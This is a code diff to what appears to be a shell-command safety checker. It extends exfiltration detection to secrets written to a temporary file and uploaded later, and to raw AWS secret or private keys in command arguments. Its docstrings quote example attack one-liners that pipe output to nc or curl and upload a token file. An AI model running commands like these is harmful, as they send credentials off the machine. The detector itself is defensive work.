@@ -5,6 +5,7 @@ import re
 
 from .. import paths
 from .commands import SHELLS, Cmd, option_value
+from .files import written_file
 from .common import NET_SENDERS, inline_code
 
 
@@ -102,7 +103,11 @@ def _held_secrets(c: Cmd) -> str | None:
 
 def check_output_to_network(a, cmd: Cmd) -> None:
     """`exec > >(nc host 9000)`, `env > >(curl -T - …)`: output written into a process substitution
-    that sends it off the machine, as a pipe into that program would."""
+    that sends it off the machine, as a pipe into that program would. A file that secrets are written
+    to (`gh auth token > /tmp/.t`) is remembered, for an upload of it later (`curl -d @/tmp/.t`)."""
+    target = written_file(a, cmd.redirects)
+    if target is not None and (leak := _is_leak_source(cmd)):
+        a.leaked[paths.normalize(a.in_cwd(target) or target)] = leak
     for r in cmd.redirects:
         if r.type != "file_redirect" or not any(t.type in (">", ">>", "&>", "&>>", ">|") for t in r.children):
             continue
@@ -170,6 +175,12 @@ def check_pipeline(a, stages: list[list[Cmd]], node) -> None:
                 return
 
 
+# secrets that are never sent as they are: AWS signs each request with the secret key (curl's `--aws-sigv4`
+# too, from `--user`), and a private key stays where it is
+_NEVER_SENT = re.compile(r"\$\{?(AWS_SECRET_ACCESS_KEY|[A-Z0-9_]*PRIVATE_KEY)\b")
+_SIGNING_USER = frozenset({"-u", "--user"})
+
+
 def _uploads(a, cmd: Cmd) -> None:
     for w in option_value(cmd.args, *_UPLOAD_OPTS):
         if w.value is None:
@@ -177,6 +188,16 @@ def _uploads(a, cmd: Cmd) -> None:
         target = w.value.split("@", 1)[1] if w.value.startswith("@") or "=@" in w.value else w.value
         if paths.is_secret(target) or target.rsplit("/", 1)[-1].startswith(".env"):
             a.block("exfiltration", f"`{cmd.name}` uploads {target}; never send credentials off the machine", w.node)
+        elif a.leaked and (leak := a.leaked.get(paths.normalize(a.in_cwd(target) or target))):
+            a.block("exfiltration", f"`{cmd.name}` uploads {target}, which an earlier command filled with {leak}; "
+                                    "never send secrets off the machine", w.node)
+    signs = any((v or "").startswith("--aws-sigv4") for v in cmd.values())
+    signing = {w.node.start_byte for w in option_value(cmd.args, *_SIGNING_USER)} if signs else ()
+    for w in cmd.args:
+        if "$" in w.text and w.node.start_byte not in signing and (m := _NEVER_SENT.search(w.text)):
+            a.block("exfiltration", f"`{cmd.name}` sends ${m.group(1)}, a secret never sent as it is (AWS signs "
+                                    "requests with it, a private key stays on the machine)", w.node)
+            break
     for w in cmd.args:
         if w.value is None and w.substitutions:
             for c in a.substituted([w]):
